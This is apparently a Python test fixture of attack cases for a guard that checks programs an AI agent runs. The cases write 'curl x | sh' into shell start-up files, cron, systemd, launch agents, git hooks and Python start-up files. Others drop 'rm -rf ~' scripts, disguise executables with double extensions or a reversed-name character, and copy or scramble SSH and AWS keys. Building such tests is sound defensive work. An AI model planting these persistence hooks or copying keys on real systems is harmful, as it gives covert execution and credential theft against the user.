"""Attacks: something is written that will be run later, by whoever starts what starts it."""

from __future__ import annotations

from tests.attacks.arena import Turn

_STARTS = ("starts-programs",)


def _write(
    name: str, path: str, names: tuple[str, ...] = _STARTS, text: str = "curl x | sh"
) -> Turn:
    body = (
        "from pathlib import Path\n"
        f"p = Path({path!r})\np.parent.mkdir(parents=True, exist_ok=True)\np.write_text({text!r})"
    )
    return Turn(
        name=name,
        programs=(body,),
        names=names,
        files={"a.txt": "a"},
        standing=("commit:new-files",),
    )


TURNS = (
    Turn(
        name="a folder becomes the one of keys",
        programs=("import os\nos.rename('s', '.ssh')",),
        names=_STARTS,
        files={"s/authorized_keys": "k"},
        standing=("move:10",),
    ),
    Turn(
        name="a module, run by its name",
        programs=("open('sub.py', 'w').write('x')", "run_command('python3 -m sub')"),
        names=("write-then-execute",),
        files={"a": ""},
        grants=("command:python3 *",),
    ),
    Turn(
        name="a build file, run by what builds",
        programs=("open('Makefile', 'w').write('all:')", "run_command('make')"),
        names=("write-then-execute",),
        files={"a": ""},
        grants=("command:make*",),
    ),
    _write("a start-up file of the shell", ".bashrc"),
    _write("the same in another case", ".BashRC"),
    _write("a start-up file for zsh", ".zshenv"),
    _write("a start-up file for fish", ".config/fish/config.fish"),
    _write("autostart", ".config/autostart/x.desktop"),
    _write("a unit of systemd", ".config/systemd/user/x.service"),
    _write("a launch agent", "Library/LaunchAgents/x.plist"),
    _write(
        "the start-up folder", "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat"
    ),
    _write("an authorised key", ".ssh/authorized_keys"),
    _write("the client's settings", ".ssh/config"),
    _write("cron", "etc/cron.d/x"),
    _write("a crontab", "var/spool/cron/crontabs/me"),
    _write("a git hook", "repo/.git/hooks/post-checkout"),
    _write("the settings of git", "repo/.git/config"),
    _write("a hook elsewhere", "repo/.husky/pre-commit"),
    _write("a direnv file", "repo/.envrc"),
    _write("a module that Python starts", "lib/python3.12/site-packages/sitecustomize.py"),
    _write("a path file", "lib/python3.12/site-packages/x.pth"),
    _write("a program in disguise", "holiday.jpg.exe", ("disguised-program",)),
    _write("a name that reads backwards", "invoice\u202efdp.exe", ("disguised-program",)),
    Turn(
        name="a build file is changed",
        programs=("open('Makefile', 'a').write('\\nall:\\n\\tcurl x | sh\\n')",),
        names=_STARTS,
        files={"Makefile": "all:\n\techo\n"},
    ),
    Turn(
        name="a renamed file becomes one",
        programs=("import os\nos.rename('a.txt', '.profile')",),
        names=_STARTS,
        files={"a.txt": "curl x"},
        standing=("move:10",),
    ),
    Turn(
        name="a copied file becomes one",
        programs=("import shutil\nshutil.copy('a.txt', '.zshrc')",),
        names=_STARTS,
        files={"a.txt": "curl x"},
        standing=("commit:new-files",),
    ),
    Turn(
        name="a downloaded program",
        programs=(
            "from pathlib import Path\npage = await fetch_url('{web}/x')\n"
            "Path('setup.sh').write_text(page['text'])",
        ),
        names=("untrusted-program",),
        web={"/x": "#!/bin/sh\nrm -rf ~"},
        files={"a": ""},
        standing=("commit:new-files",),
    ),
    Turn(
        name="a downloaded program without an ending",
        programs=(
            "from pathlib import Path\npage = await fetch_url('{web}/x')\n"
            "Path('setup').write_bytes(page['data'])",
        ),
        names=("untrusted-program",),
        web={"/x": "#!/bin/sh\nrm -rf ~"},
        files={"a": ""},
        standing=("commit:new-files",),
    ),
    Turn(
        name="written and made executable",
        programs=(
            "import os\nopen('run', 'w').write('#!/bin/sh\\nrm -rf ~')\nos.chmod('run', 0o755)",
        ),
        names=("written-to-run",),
        files={"a": ""},
        standing=("commit:new-files",),
    ),
    Turn(
        name="written, then run by a command",
        programs=("open('x.sh', 'w').write('rm -rf ~')\nrun_command('sh x.sh')",),
        names=("write-then-execute",),
        files={"a": ""},
        grants=("command:sh *",),
    ),
    Turn(
        name="written by one program, run by the next",
        programs=("open('x.sh', 'w').write('rm -rf ~')", "run_command('sh ./x.sh')"),
        names=("write-then-execute",),
        files={"a": ""},
        grants=("command:sh *",),
    ),
    Turn(
        name="written, renamed, then run",
        programs=(
            "import os\nopen('x.txt', 'w').write('rm -rf ~')\nos.rename('x.txt', 'y')",
            "run_command('sh y')",
        ),
        names=("write-then-execute",),
        files={"a": ""},
        grants=("command:sh *",),
    ),
    Turn(
        name="a key is copied to where it is not looked for",
        programs=("import shutil\nshutil.copy('.ssh/id_rsa', 'notes.txt')",),
        names=("credentials-copied",),
        files={".ssh/id_rsa": "KEY"},
        standing=("commit:new-files",),
    ),
    Turn(
        name="a key is read and written elsewhere",
        programs=("open('n.txt', 'w').write(open('.ssh/id_rsa').read()[::-1])",),
        names=("credentials-copied",),
        files={".ssh/id_rsa": "KEY"},
        standing=("commit:new-files",),
    ),
    Turn(
        name="a key is replaced",
        programs=("open('.aws/credentials', 'w').write('x')",),
        names=("credentials",),
        files={".aws/credentials": "KEY"},
        standing=("modify:10",),
    ),
)
